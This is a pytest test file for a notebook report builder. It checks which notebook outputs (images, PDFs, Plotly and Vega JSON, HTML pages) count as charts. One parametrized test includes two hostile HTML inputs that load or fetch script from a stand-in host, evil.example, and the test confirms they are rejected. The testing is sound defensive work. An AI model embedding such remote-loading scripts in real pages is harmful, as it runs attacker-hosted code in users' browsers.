"""Every kind of chart a notebook output holds becomes a chart of the report, grouped and ranked
like session charts: images shown, Plotly and Vega charts kept as their JSON; what only looks like
a chart (Plotly's loader, a styling cell's <style>, an empty or script-free HTML output) is not
one, and no page that loads scripts from elsewhere is kept."""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from nini.report.builder import ReportOptions, build_report
from nini.report.notebook_charts import html_chart_spec, is_html_chart
from nini.report.sources import from_notebook

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
    b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\r\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
FIGURE = {"data": [{"type": "bar", "y": [2, 3, 1]}], "layout": {"title": {"text": "bar plot"}}}
# Plotly's per-chart HTML in connected mode: it needs the loader's require.js paths (a CDN)
PLOTLY_HTML = (
    '<div id="p"></div><script type="text/javascript">require(["plotly"], function(Plotly) {'
    f'Plotly.newPlot("p", {json.dumps(FIGURE["data"])}, {json.dumps(FIGURE["layout"])}, {{"responsive": true}})'
    "});</script>"
)
PLOTLY_LOADER = (
    "<script type=\"text/javascript\">window.PlotlyConfig = {MathJaxConfig: 'local'};"
    "requirejs.config({paths: {'plotly': ['https://cdn.plot.ly/plotly-latest.min']}});</script>"
)
VEGA_LITE = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "mark": "point",
    "data": {"values": [{"x": 1, "y": 3}]},
    "title": "points",
}
ALTAIR_HTML = (
    '<style>#altair-viz-1.vega-embed {width: 100%;}</style><div id="altair-viz-1"></div>'
    '<script type="text/javascript">(function(spec, embedOpt){ const paths = {"vega": '
    '"https://cdn.jsdelivr.net/npm/vega@5?noext"}; /* loads vega-embed */ })('
    f'{json.dumps(VEGA_LITE)}, {{"mode": "vega-lite"}});</script>'
)
CDN_PAGE = '<div id="b"></div><script src="https://cdn.bokeh.org/bokeh-3.js"></script><script>Bokeh.embed()</script>'
INLINE_PAGE = '<div id="w"></div><script>document.getElementById("w").textContent = "drawn here"</script>'
TABLE_HTML = "<table><tr><th>a</th></tr><tr><td>1</td></tr></table>"


def encoded(data: bytes) -> str:
    return base64.b64encode(data).decode()


def cell(label: str, *bundles: dict) -> nbformat.NotebookNode:
    code = new_code_cell(f"# {label}\nshow()", execution_count=1)
    code.outputs = [new_output("display_data", data=bundle) for bundle in bundles]
    return code


def report_of(tmp_path: Path, *cells: nbformat.NotebookNode) -> tuple[list[str], Path, object]:
    path = tmp_path / "charts.ipynb"
    nbformat.write(new_notebook(cells=list(cells)), path)
    data, files = from_notebook(path, files_dir=tmp_path / "files")
    return sorted(p.name for p in files.iterdir()) if files.exists() else [], files, data


def test_each_output_kind_is_a_chart_with_its_preview_or_entry(tmp_path: Path) -> None:
    names, files, data = report_of(
        tmp_path,
        cell("gif chart", {"image/gif": encoded(GIF)}),
        cell("webp chart", {"image/webp": encoded(WEBP), "text/plain": "<Figure>"}),
        cell("pdf only", {"application/pdf": encoded(PDF)}),
        cell("plotly chart", {"application/vnd.plotly.v1+json": FIGURE, "text/html": PLOTLY_HTML}),
        cell("vega lite chart", {"application/vnd.vegalite.v5+json": VEGA_LITE}),
        cell("vega chart", {"application/vnd.vega.v5+json": {"marks": []}}),
        cell("a table", {"text/html": TABLE_HTML, "text/plain": "   a\n0  1"}),
        cell("png plus svg", {"image/png": encoded(PNG), "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>"}),
    )
    assert names == [
        "gif-chart.gif",
        "pdf-only.pdf",
        "plotly-chart.plotly.json",
        "png-plus-svg.png",
        "png-plus-svg.svg",
        "vega-chart.vega.json",
        "vega-lite-chart.vegalite.json",
        "webp-chart.webp",
    ]  # the DataFrame's HTML runs no script: not a chart; Plotly's page needs a CDN: its JSON is the chart
    assert (files / "gif-chart.gif").read_bytes() == GIF and (files / "pdf-only.pdf").read_bytes() == PDF
    assert json.loads((files / "plotly-chart.plotly.json").read_text()) == FIGURE
    report = build_report(data, ReportOptions(lang="en"), link_base=tmp_path)
    assert "[View chart file](files/pdf-only.pdf)" in report.markdown
    assert "[Interactive chart: open the file](files/plotly-chart.plotly.json)" in report.markdown
    assert "[Interactive chart: open the file](files/vega-lite-chart.vegalite.json)" in report.markdown
    assert (
        report.html.count('src="data:image/gif;base64,') == 1 and report.html.count('src="data:image/webp;base64,') == 1
    )
    assert report.html.count('src="data:image/png;base64,') == 1  # png outranks svg: one preview per chart
    assert "<script" not in report.html and "https://" not in report.markdown
    chinese = build_report(data, ReportOptions(lang="zh"), link_base=tmp_path).markdown
    assert "[交互图表：请打开文件查看](files/plotly-chart.plotly.json)" in chinese


def test_loader_styling_empty_and_cdn_outputs_are_not_charts(tmp_path: Path) -> None:
    names, _, data = report_of(
        tmp_path,
        cell("plotly loader", {"text/html": PLOTLY_LOADER, "text/plain": ""}),
        cell(
            "styling",
            {"text/html": "<style>table td { color: red }</style>", "text/plain": "<IPython.core.display.HTML>"},
        ),
        cell("empty", {"text/html": "", "text/plain": ""}),
        cell("markdown only", {"text/markdown": "**bold** words", "text/plain": "bold words"}),
        cell("bokeh from a cdn", {"text/html": CDN_PAGE}),
    )
    assert names == [] and data.charts == []


def test_altair_and_plotly_html_keep_their_json_as_the_chart(tmp_path: Path) -> None:
    names, files, _ = report_of(
        tmp_path,
        cell("altair", {"text/html": ALTAIR_HTML, "text/plain": "alt.Chart(...)"}),
        cell("plotly html only", {"text/html": PLOTLY_HTML}),
        cell("inline page", {"text/html": INLINE_PAGE}),
    )
    assert names == ["altair.vegalite.json", "inline-page.html", "plotly-html-only.plotly.json"]
    assert json.loads((files / "altair.vegalite.json").read_text()) == VEGA_LITE
    assert json.loads((files / "plotly-html-only.plotly.json").read_text()) == FIGURE


@pytest.mark.parametrize(
    ("page", "chart"),
    [
        (PLOTLY_LOADER, False),
        (CDN_PAGE, False),
        (PLOTLY_HTML, False),
        (ALTAIR_HTML, False),
        (INLINE_PAGE, True),
        ("<script>import('https://evil.example/x.js')</script>", False),
        ('<script>fetch("//evil.example")</script>', False),
        ("<style>p {}</style>", False),
        ("", False),
        (TABLE_HTML, False),
    ],
)
def test_a_page_is_a_chart_only_when_it_runs_its_own_scripts(page: str, chart: bool) -> None:
    assert is_html_chart(page) is chart
    assert html_chart_spec(PLOTLY_LOADER) is None


def test_chart_files_are_readable_like_the_report_files(tmp_path: Path) -> None:
    _, files, data = report_of(
        tmp_path, cell("png", {"image/png": encoded(PNG)}), cell("plotly", {"application/vnd.plotly.v1+json": FIGURE})
    )
    from nini.report.output import write_report

    written = write_report(build_report(data, ReportOptions(), link_base=tmp_path), tmp_path, formats=["md"])
    umask = os.umask(0)
    os.umask(umask)
    expected = 0o644 & ~umask
    assert written["md"].stat().st_mode & 0o777 == expected
    for chart in files.iterdir():
        assert chart.stat().st_mode & 0o777 == expected, chart.name
